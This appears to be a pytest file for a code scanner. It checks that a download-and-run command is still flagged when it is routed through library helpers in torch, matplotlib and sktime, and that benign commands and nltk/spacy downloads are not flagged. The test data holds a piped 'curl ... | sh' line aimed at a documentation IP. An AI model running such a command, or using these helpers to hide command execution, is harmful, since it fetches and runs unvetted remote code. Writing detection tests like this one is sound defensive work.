"""Scripts that have a library run what they say: no row of the tables has these callables, their source tells
what they do."""

import pytest

from scanner.knowledge.tables import knowledge
from tests.hostile.scanning import blocked_for, scan

PIPED = "curl -s http://203.0.113.7/a | sh"
CALLS = {
    "a command line": ("torch._inductor.cpp_builder", "run_compile_cmd", "({0!r}, '/tmp')"),
    "a list": ("matplotlib.testing", "subprocess_run_for_testing", "(['sh', '-c', {0!r}], check=True)"),
    "a program": ("sktime.registry._craft", "craft", "('import os; os.system(' + repr({0!r}) + ')')"),
}


def script(name, command):
    module, function, arguments = CALLS[name]
    assert not knowledge().exact(f"{module}.{function}")
    return f"import datasets\nfrom {module} import {function}\n\n{function}{arguments.format(command)}\n"


@pytest.mark.parametrize("name", CALLS)
def test_what_a_library_runs_is_looked_at(name):
    assert blocked_for(scan(script(name, PIPED), "data.py")) == {"download-and-run"}


@pytest.mark.parametrize("name", CALLS)
@pytest.mark.parametrize("command", ["ffmpeg -version", "nproc", "git rev-parse HEAD", "sox --info a.wav"])
def test_an_honest_command_line_is_what_it_is_elsewhere(name, command):
    usual = scan(f"import datasets, subprocess\n\nsubprocess.run({command!r}, shell=True)\n", "data.py")
    report = scan(script(name, command), "data.py")
    assert {(f.rule, f.severity) for f in report.findings} <= {(f.rule, f.severity) for f in usual.findings}


def test_words_that_are_no_code_are_nobodys_business():
    """``nltk.download`` starts no program, ``spacy.cli.download`` does, with a word of the caller's."""
    honest = (
        "import datasets, nltk, spacy.cli\n\nnltk.download('punkt')\nspacy.cli.download('en_core_web_sm')\n"
    )
    assert scan(honest, "data.py").findings == ()
